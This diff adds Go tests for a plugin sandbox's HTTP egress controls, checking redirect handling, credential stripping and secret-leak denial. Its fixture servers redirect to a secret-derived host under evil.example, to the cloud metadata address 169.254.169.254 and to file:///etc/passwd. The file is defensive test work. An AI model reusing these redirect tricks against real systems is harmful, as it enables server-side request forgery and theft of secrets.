@@ -1,0 +1,126 @@
+package egress
+
+import (
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"vega/plugins/manifest"
+	"vega/sdk/abi"
+)
+
+func TestRedirects(t *testing.T) {
+	var last *http.Request
+	var hits atomic.Int32
+	far := server(t, func(_ http.ResponseWriter, r *http.Request) { last = r; hits.Add(1) })
+	near := server(t, nil)
+	near.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		last = r
+		switch r.URL.Path {
+		case "/far":
+			http.Redirect(w, r, far.URL+"/there", http.StatusFound)
+		case "/same":
+			http.Redirect(w, r, "/end?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
+		case "/loop":
+			http.Redirect(w, r, "/loop", http.StatusFound)
+		case "/otherhost", "/leak", "/post":
+			to := strings.Replace(near.URL, "127.0.0.1", "localhost", 1) + "/end"
+			if r.URL.Path == "/leak" {
+				to += "?" + r.URL.RawQuery
+			}
+			code := http.StatusFound
+			if r.URL.Path == "/post" {
+				code = http.StatusPermanentRedirect
+			}
+			http.Redirect(w, r, to, code)
+		case "/meta":
+			http.Redirect(w, r, "http://169.254.169.254/latest/meta-data/", http.StatusFound)
+		case "/secrethost":
+			http.Redirect(w, r, "http://"+r.Header.Get("X-Host")+".evil.example/", http.StatusFound)
+		case "/file":
+			http.Redirect(w, r, "file:///etc/passwd", http.StatusFound)
+		}
+	})
+	local := strings.Replace(near.URL, "127.0.0.1", "localhost", 1)
+	grants := rules(t, manifest.HTTP, "GET "+near.URL, "POST "+near.URL, "GET "+local, "POST "+local)
+	do := func(path string, edit func(*run, *Request)) (*run, *Response, error) {
+		r := start(t, setup{rules: grants})
+		q := &Request{Method: "GET", URL: near.URL + path, Redirects: 10, Header: []Field{{"X-Token", r.mask}, {"X-Plain", "p"}, {"Authorization", "Bearer x"}, {"Cookie", "a=b"}}}
+		if edit != nil {
+			edit(r, q)
+		}
+		resp, err := r.HTTP(within(t, 5*time.Second), q)
+		if err == nil {
+			resp.Body.Close()
+		}
+		return r, resp, err
+	}
+
+	r, _, err := do("/far", nil)
+	wantsDenial(t, r, err, `http = ["GET `+far.URL+`"]`, "redirected from "+near.URL)
+	if hits.Load() != 0 {
+		t.Error("an ungranted host was reached")
+	}
+	if _, resp, err := do("/far", func(_ *run, q *Request) { q.Redirects = 0 }); err != nil || resp.Status != 302 || resp.Header.Get("Location") != far.URL+"/there" {
+		t.Errorf("not following: %v %v", resp, err)
+	}
+	r, _, err = do("/meta", nil)
+	wantsDenial(t, r, err, "169.254.169.254")
+	r, _, err = do("/file", nil)
+	wantsDenial(t, r, err)
+	_, _, err = do("/loop", func(_ *run, q *Request) { q.Redirects = 3 })
+	if wants(t, err, abi.ErrIO); !strings.Contains(err.Error(), "3 redirects") {
+		t.Error(err)
+	}
+	r, resp, err := do("/same?k=v", nil)
+	if err != nil || last.URL.String() != "/end?k=v" || last.Header.Get("X-Token") != token || last.Header.Get("Authorization") == "" {
+		t.Errorf("same host: %v %v %v", last.URL, last.Header, err)
+	}
+	if !strings.HasSuffix(resp.FinalURL, "/end?k=v") || len(r.denied) != 0 {
+		t.Errorf("%q %q", resp.FinalURL, r.denied)
+	}
+	if _, _, err := do("/otherhost", nil); err != nil || last.Host[:9] != "localhost" || last.Header.Get("X-Token")+last.Header.Get("Authorization")+last.Header.Get("Cookie") != "" || last.Header.Get("X-Plain") != "p" {
+		t.Errorf("other host: %v %v", last, err)
+	}
+	if _, _, err := do("/otherhost", func(_ *run, q *Request) { q.Method, q.Body = "POST", []byte("x") }); err != nil || last.Method != "GET" || last.ContentLength != 0 {
+		t.Errorf("POST became %v %v", last, err)
+	}
+	r, _, err = do("/leak", func(r *run, q *Request) { q.URL += "?" + r.mask })
+	wantsDenial(t, r, err, "taking a secret along")
+	r, _, err = do("/post", func(r *run, q *Request) { q.Method, q.Body = "POST", []byte(r.mask) })
+	wantsDenial(t, r, err, "taking a secret along")
+}
+
+func TestRedirectToAHostMadeOfASecret(t *testing.T) {
+	const canary = "Canary0123456789"
+	s := server(t, func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "http://"+r.Header.Get("X")+".evil.example/", http.StatusFound)
+	})
+	r := start(t, setup{rules: rules(t, manifest.HTTP, "GET "+s.URL), url: s.URL + "/" + canary})
+	_, err := r.HTTP(within(t, 5*time.Second), &Request{Method: "GET", URL: s.URL, Redirects: 1, Header: []Field{{"X", strings.TrimPrefix(r.url, s.URL+"/")}}})
+	wantsDenial(t, r, err)
+	if strings.Contains(strings.ToLower(err.Error()), strings.ToLower(canary)) {
+		t.Error(err)
+	}
+}
+
+func TestDowngradeDropsSecrets(t *testing.T) {
+	ca := newAuthority(t)
+	var last *http.Request
+	plain := server(t, func(_ http.ResponseWriter, r *http.Request) { last = r })
+	secure := ca.server(t, true, func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, plain.URL+r.URL.RequestURI(), http.StatusFound)
+	})
+	r := start(t, setup{rules: rules(t, manifest.HTTP, "GET "+secure.URL, "GET "+plain.URL), network: ca.network(), plaintext: true})
+	q := &Request{Method: "GET", URL: secure.URL, Redirects: 1, Header: []Field{{"X-Token", r.mask}, {"Authorization", "x"}}}
+	resp, err := r.HTTP(within(t, 5*time.Second), q)
+	if err != nil || last.Header.Get("X-Token")+last.Header.Get("Authorization") != "" {
+		t.Fatal(last, err)
+	}
+	resp.Body.Close()
+	q.URL += "/" + r.mask
+	_, err = r.HTTP(within(t, 5*time.Second), q)
+	wantsDenial(t, r, err, "taking a secret along")
+}
